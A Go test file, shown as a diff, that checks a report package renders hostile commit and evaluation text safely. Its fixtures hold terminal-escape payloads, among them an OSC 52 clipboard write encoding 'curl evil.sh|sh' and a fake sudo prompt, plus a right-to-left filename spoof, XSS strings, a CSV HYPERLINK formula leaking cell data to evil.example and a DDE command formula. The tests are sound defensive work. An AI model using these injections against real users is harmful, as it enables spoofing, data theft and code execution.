@@ -1,0 +1,378 @@
+package report_test
+
+// Hostile text through every report: commit subjects, author, repository
+// and file names, summaries, dataset text and model answers that carry
+// terminal escapes, bidirectional overrides and Markdown or HTML of their
+// own. Terminal and Markdown reports must show them as text and keep their
+// structure; JSON, JSONL and CSV must keep them exactly.
+
+import (
+	"bytes"
+	"encoding/csv"
+	"encoding/json"
+	"encoding/xml"
+	"reflect"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+	"unicode"
+
+	"github.com/yuin/goldmark"
+	"github.com/yuin/goldmark/ast"
+	"github.com/yuin/goldmark/extension"
+	"github.com/yuin/goldmark/text"
+
+	"github.com/digest-cli/digest/internal/report"
+)
+
+const (
+	hostileOSC52   = "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07"
+	hostileTitle   = "\x1b]0;sudo password:\x07"
+	hostileClear   = "\x1b[2J\x1b[H"
+	hostileRewrite = "all tests failed\rall tests passed"
+	hostileRTL     = "invoice_\u202egnp.exe"
+	hostileC1      = "\u009b2J"
+	hostileIsolate = "\u2067admin\u2069\u200f"
+	hostileTags    = "ok\U000e0049\U000e0047\U000e004e"
+)
+
+// hostileText is every kind of hostile text in one string.
+var hostileText = strings.Join([]string{hostileOSC52, hostileTitle, hostileClear, hostileRewrite, hostileRTL, hostileC1, hostileIsolate, hostileTags, "\xff\xfe"}, " ")
+
+// hostileSummary is what a model could answer: Markdown structure, HTML, a
+// remote image and an unclosed fence that would swallow the rest.
+const hostileSummary = "# Pwned\n\nAdds <mark>retries</mark> to remote.<name>.promisor.\n\n" +
+	"> quoted\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n![pixel](https://evil.example/p.png) [click](https://evil.example)\n" +
+	"<img src=x onerror=alert(1)>\n<script>alert(1)</script>\n\x1b]0;title\x07\u202e\n```\nthe rest of the changelog"
+
+func hostileChangelog() *report.Changelog {
+	day := time.Date(2026, 5, 3, 9, 0, 0, 0, time.UTC)
+	entry := func(repo, commit, author, subject, summary, path string) report.Entry {
+		return report.Entry{Repo: repo, RepoID: "1111111111111111", Commit: commit, Author: author, Date: day,
+			Subject: subject, Summary: summary, Model: "offline",
+			SkippedFiles: []report.SkippedFile{{Path: path, Reason: "binary"}}}
+	}
+	return &report.Changelog{
+		Model: "offline`" + hostileTitle,
+		Entries: []report.Entry{
+			entry("api"+hostileOSC52+" # repo", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", "Mallory"+hostileRTL,
+				"# Fix <mark>"+hostileClear, hostileSummary, "logo"+hostileRTL+".png"),
+			entry("api"+hostileOSC52+" # repo", "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb", hostileIsolate,
+				"> quote", "- Fixes x\n- ```\n"+hostileText, "a|b\n## c.txt"),
+			entry("```", "cccccccccccccccccccccccccccccccccccccccc", "Eve", hostileRewrite,
+				"Rewrites the parser.\r\n\r\n```go\nfunc main() {", "<script>.js"),
+			entry("<details>", "dddddddddddddddddddddddddddddddddddddddd", "Eve", "Fixes `x`",
+				"Fixes `<mark>` handling in `remote.<name>.promisor`.", "ok.go"),
+		},
+	}
+}
+
+// gfm reads Markdown back as GitHub does.
+var gfm = goldmark.New(goldmark.WithExtensions(extension.GFM))
+
+// markdownNodes counts the nodes of each kind in a Markdown document.
+func markdownNodes(t *testing.T, md []byte) map[string]int {
+	t.Helper()
+	doc := gfm.Parser().Parse(text.NewReader(md))
+	kinds := map[string]int{}
+	err := ast.Walk(doc, func(n ast.Node, entering bool) (ast.WalkStatus, error) {
+		if entering {
+			kinds[n.Kind().String()]++
+		}
+		return ast.WalkContinue, nil
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return kinds
+}
+
+// checkTerminalSafe fails when out holds anything a terminal acts on or
+// that reorders or hides text: control characters but line feed and tab,
+// DEL, C1 controls, bidirectional controls, invisible format characters,
+// tag characters, bytes that are not UTF-8.
+func checkTerminalSafe(t *testing.T, name string, out []byte) {
+	t.Helper()
+	for i, r := range string(out) {
+		notUTF8 := r == unicode.ReplacementChar && !bytes.HasPrefix(out[i:], []byte("\ufffd"))
+		if notUTF8 || r < 0x20 && r != '\n' && r != '\t' || r >= 0x7f && r <= 0x9f ||
+			unicode.Is(unicode.Cf, r) && r != 0x200c && r != 0x200d || r == 0x2028 || r == 0x2029 {
+			t.Errorf("%s: %U at byte %d: %q", name, r, i, out[max(0, i-20):min(len(out), i+20)])
+			return
+		}
+	}
+}
+
+func TestHostileChangelogMarkdown(t *testing.T) {
+	c := hostileChangelog()
+	var b bytes.Buffer
+	if err := (report.Markdown{}).Write(&b, c); err != nil {
+		t.Fatal(err)
+	}
+	out := b.Bytes()
+	checkTerminalSafe(t, "markdown", out)
+	nodes := markdownNodes(t, out)
+	// # Changelog, three repositories, one day each.
+	if nodes["Heading"] != 1+3+3 || nodes["ListItem"] != len(c.Entries) || nodes["List"] != 3 {
+		t.Errorf("structure changed: %d headings, %d lists, %d items, want 7, 3, 4\n%s", nodes["Heading"], nodes["List"], nodes["ListItem"], out)
+	}
+	for _, kind := range []string{"FencedCodeBlock", "CodeBlock", "HTMLBlock", "RawHTML", "Image", "Link", "Blockquote", "Table", "ThematicBreak", "Strikethrough", "TaskCheckBox"} {
+		if nodes[kind] > 0 {
+			t.Errorf("%d %s in the changelog:\n%s", nodes[kind], kind, out)
+		}
+	}
+	if nodes["Emphasis"] != 1 { // the footer's
+		t.Errorf("%d emphasis in the changelog, want the footer's:\n%s", nodes["Emphasis"], out)
+	}
+	for _, line := range strings.Split(string(out), "\n") {
+		if line != "" && !strings.HasPrefix(line, "#") && !strings.HasPrefix(line, "- `") && !strings.HasPrefix(line, "_Summarized") {
+			t.Errorf("a line of its own: %q", line)
+		}
+	}
+	for _, want := range []string{
+		"Adds &lt;mark&gt;retries&lt;/mark&gt; to remote.&lt;name&gt;.promisor.",
+		`!\[pixel\](https://evil.example/p.png)`,
+		"Fixes `<mark>` handling in `remote.<name>.promisor`.",
+		`\\x1b\]0;title\\x07\\u202e`,
+		"## " + `api\\x1b\]52;c;Y3VybCBldmlsLnNofHNo\\x07 # repo` + "\n",
+		"## \\`\\`\\`\n",
+		"## &lt;details&gt;\n",
+		"the rest of the changelog\n",
+	} {
+		if !bytes.Contains(out, []byte(want)) {
+			t.Errorf("no %q in:\n%s", want, out)
+		}
+	}
+}
+
+func TestHostileChangelogJSONKeepsTheData(t *testing.T) {
+	c := hostileChangelog()
+	for _, format := range []string{"json", "jsonl"} {
+		r, err := report.ForFormat(format)
+		if err != nil {
+			t.Fatal(err)
+		}
+		var b bytes.Buffer
+		if err := r.Write(&b, c); err != nil {
+			t.Fatal(err)
+		}
+		checkTerminalSafe(t, format, b.Bytes())
+		var got []report.Entry
+		if format == "json" {
+			var doc struct {
+				Model   string         `json:"model"`
+				Commits []report.Entry `json:"commits"`
+			}
+			if err := json.Unmarshal(b.Bytes(), &doc); err != nil {
+				t.Fatalf("%s: %v", format, err)
+			}
+			if doc.Model != c.Model {
+				t.Errorf("json: model %q, want %q", doc.Model, c.Model)
+			}
+			got = doc.Commits
+		} else {
+			dec := json.NewDecoder(&b)
+			for dec.More() {
+				var e report.Entry
+				if err := dec.Decode(&e); err != nil {
+					t.Fatalf("%s: %v", format, err)
+				}
+				got = append(got, e)
+			}
+		}
+		if len(got) != len(c.Entries) {
+			t.Fatalf("%s: %d entries, want %d", format, len(got), len(c.Entries))
+		}
+		for i, e := range got {
+			want := c.Entries[i]
+			// The one change JSON makes: each byte that is not UTF-8 becomes
+			// U+FFFD; hostileText has one run of two.
+			fix := func(s string) string { return strings.ToValidUTF8(s, "\ufffd\ufffd") }
+			if e.Repo != want.Repo || e.Author != want.Author || e.Subject != want.Subject || e.Summary != fix(want.Summary) ||
+				!reflect.DeepEqual(e.SkippedFiles, want.SkippedFiles) {
+				t.Errorf("%s: entry %d read back as %+v, want %+v", format, i, e, want)
+			}
+		}
+	}
+}
+
+// hostileEval is a run whose dataset, models, items, answers, reasons and
+// errors are all hostile.
+func hostileEval(t *testing.T) (*report.Eval, []report.Result) {
+	modelA, modelB := "evil"+hostileTitle+"|model", "# model`b`"+hostileIsolate
+	results := []report.Result{
+		{Model: modelA, Item: "q1" + hostileRTL, Prompt: hostileText, Expected: []string{"=HYPERLINK(\"https://evil.example/?\"&A1)", hostileClear},
+			Answer: hostileSummary, Reasons: []string{"exact: got " + hostileOSC52, "| broken | cell"}},
+		{Model: modelA, Item: "q2", Answer: "@SUM(1+1)*cmd|' /C calc'!A0", Pass: true, Score: 1},
+		{Model: modelB, Item: "q1" + hostileRTL, Error: "500: " + hostileText + "\n<html><body>gateway</body></html>"},
+		{Model: modelB, Item: "q2\n## heading", Answer: "```\nunclosed " + hostileIsolate},
+	}
+	e := &report.Eval{
+		RunID:   "r1" + hostileTags,
+		Dataset: "data/" + hostileRTL + "<script>.jsonl",
+		Models: []report.ModelStats{
+			{Model: modelA, Items: 2, Passed: 1, Accuracy: 0.5},
+			{Model: modelB, Items: 2, Errors: 1},
+		},
+		Pairs:   []report.Pair{{A: modelA, B: modelB, AOnly: 1, P: 1}},
+		Results: once(t, results),
+	}
+	return e, results
+}
+
+func TestHostileEvalTerminalAndMarkdown(t *testing.T) {
+	for _, format := range []string{"table", "markdown"} {
+		e, _ := hostileEval(t)
+		r, err := report.ForEvalFormat(format)
+		if err != nil {
+			t.Fatal(err)
+		}
+		out := write(t, r.WriteEval, e)
+		checkTerminalSafe(t, format, out)
+		lines := strings.Split(strings.TrimSuffix(string(out), "\n"), "\n")
+		switch format {
+		case "table":
+			// A header, a row per model, a blank line, a line per pair.
+			if len(lines) != 1+2+1+1 {
+				t.Errorf("table has %d lines, want 5:\n%s", len(lines), out)
+			}
+		case "markdown":
+			nodes := markdownNodes(t, out)
+			if nodes["Heading"] != 1 || nodes["Table"] != 2 || nodes["ListItem"] != 1 {
+				t.Errorf("structure changed: %v\n%s", nodes, out)
+			}
+			// The models' header and two rows, the failures' header and three rows.
+			if nodes["TableHeader"] != 2 || nodes["TableRow"] != 2+3 || nodes["TableCell"] != 12*3+4*4 {
+				t.Errorf("cells moved: %d headers, %d rows, %d cells\n%s", nodes["TableHeader"], nodes["TableRow"], nodes["TableCell"], out)
+			}
+			// <details>, <summary> and </details> are the report's own.
+			if nodes["HTMLBlock"] != 2 || strings.Count(string(out), "<") != 4 {
+				t.Errorf("HTML other than the report's own:\n%s", out)
+			}
+			for _, kind := range []string{"FencedCodeBlock", "CodeBlock", "RawHTML", "Image", "Link", "Blockquote", "Emphasis", "CodeSpan", "Strikethrough"} {
+				if nodes[kind] > 0 {
+					t.Errorf("%d %s in the report:\n%s", nodes[kind], kind, out)
+				}
+			}
+		}
+	}
+}
+
+func TestHostileEvalMachineFormatsKeepTheData(t *testing.T) {
+	e, results := hostileEval(t)
+	out := write(t, report.EvalJSONL{}.WriteEval, e)
+	checkTerminalSafe(t, "jsonl", out)
+	var got []report.Result
+	dec := json.NewDecoder(bytes.NewReader(out))
+	for dec.More() {
+		var r report.Result
+		if err := dec.Decode(&r); err != nil {
+			t.Fatal(err)
+		}
+		got = append(got, r)
+	}
+	for i := range results {
+		results[i].Prompt = strings.ToValidUTF8(results[i].Prompt, "\ufffd\ufffd")
+		results[i].Error = strings.ToValidUTF8(results[i].Error, "\ufffd\ufffd")
+	}
+	if !reflect.DeepEqual(got, results) {
+		t.Errorf("jsonl read back\n%+v\nwant\n%+v", got, results)
+	}
+
+	e, _ = hostileEval(t)
+	out = write(t, report.EvalJSON{}.WriteEval, e)
+	checkTerminalSafe(t, "json", out)
+	var doc report.Eval
+	if err := json.Unmarshal(out, &doc); err != nil {
+		t.Fatal(err)
+	}
+	if doc.Dataset != e.Dataset || doc.RunID != e.RunID || doc.Models[0].Model != e.Models[0].Model || doc.Pairs[0].A != e.Pairs[0].A {
+		t.Errorf("json read back %+v", doc)
+	}
+
+	// CSV is data for programs: cells come back exactly, formulas too (see EvalCSV).
+	e, results = hostileEval(t)
+	rows, err := csv.NewReader(bytes.NewReader(write(t, report.EvalCSV{}.WriteEval, e))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i, r := range results {
+		row := rows[1+i]
+		if row[0] != r.Model || row[1] != r.Item || row[11] != r.Error || row[12] != r.Answer || row[13] != strings.Join(r.Expected, " | ") {
+			t.Errorf("csv row %d %q, want %+v", 1+i, row, r)
+		}
+	}
+}
+
+func TestHostileEvalJUnitAndHTML(t *testing.T) {
+	e, results := hostileEval(t)
+	out := write(t, report.WriteJUnit, e)
+	checkTerminalSafe(t, "junit", out)
+	var doc junitDoc
+	if err := xml.Unmarshal(out, &doc); err != nil {
+		t.Fatalf("%v\n%s", err, out)
+	}
+	if len(doc.Suites) != 2 || len(doc.Suites[0].Cases) != 2 || len(doc.Suites[1].Cases) != 2 {
+		t.Fatalf("read back %+v", doc)
+	}
+	var read []string
+	for _, s := range doc.Suites {
+		read = append(read, s.Name)
+		for _, p := range s.Props {
+			read = append(read, p.Value)
+		}
+		for _, c := range s.Cases {
+			read = append(read, c.Classname, c.Name)
+			if c.Failure != nil {
+				read = append(read, c.Failure.Message, c.Failure.Text)
+			}
+			if c.Error != nil {
+				read = append(read, c.Error.Message, c.Error.Text)
+			}
+		}
+	}
+	checkTerminalSafe(t, "junit, read back", []byte(strings.Join(read, "\n")))
+	if c := doc.Suites[0].Cases[0]; c.Name != `q1invoice_\u202egnp.exe#0` || c.Failure == nil || !strings.Contains(c.Failure.Text, `\x1b]52;c;`) {
+		t.Errorf("the failure does not show its escapes: %+v", c)
+	}
+	if c := doc.Suites[1].Cases[1]; c.Name != "q2 ## heading#0" {
+		t.Errorf("a name with a line break reads %q", c.Name)
+	}
+
+	e, _ = hostileEval(t)
+	page := write(t, report.WriteHTML, e)
+	checkTerminalSafe(t, "html", page)
+	for _, bad := range []string{"<mark>", "<img", "<html>", "<script>alert", "<script>.jsonl"} {
+		if bytes.Contains(page, []byte(bad)) {
+			t.Errorf("page has %s as markup", bad)
+		}
+	}
+	if n := bytes.Count(page, []byte("<tr class=")); n != len(results) {
+		t.Errorf("%d result rows, want %d", n, len(results))
+	}
+	if !bytes.Contains(page, []byte(`invoice_\u202egnp.exe`)) || !bytes.Contains(page, []byte("&lt;mark&gt;retries&lt;/mark&gt;")) {
+		t.Error("the page does not show the hostile text as text")
+	}
+}
+
+// TestHostileLongAnswer: a 1 MB one-line answer full of escapes keeps its
+// row in the Markdown report and its one line per result in JSONL.
+func TestHostileLongAnswer(t *testing.T) {
+	answer := strings.Repeat("x"+hostileClear+"|#", 1<<20/10)
+	rs := []report.Result{{Model: "m", Item: "long", Answer: answer}}
+	e := &report.Eval{Models: []report.ModelStats{{Model: "m", Items: 1}}, Results: slices.Values(rs)}
+	out := write(t, report.EvalMarkdown{}.WriteEval, e)
+	checkTerminalSafe(t, "markdown", out)
+	if nodes := markdownNodes(t, out); nodes["TableRow"] != 2 || nodes["TableCell"] != 12*2+4*2 {
+		t.Errorf("rows %d, cells %d", nodes["TableRow"], nodes["TableCell"])
+	}
+	e.Results = slices.Values(rs)
+	out = write(t, report.EvalJSONL{}.WriteEval, e)
+	if n := bytes.Count(out, []byte("\n")); n != 1 {
+		t.Errorf("%d lines, want 1", n)
+	}
+	if !bytes.Contains(out, []byte(`x\u001b[2J\u001b[H|#x`)) {
+		t.Errorf("the answer's escapes are not JSON escapes: %.80s", out)
+	}
+}
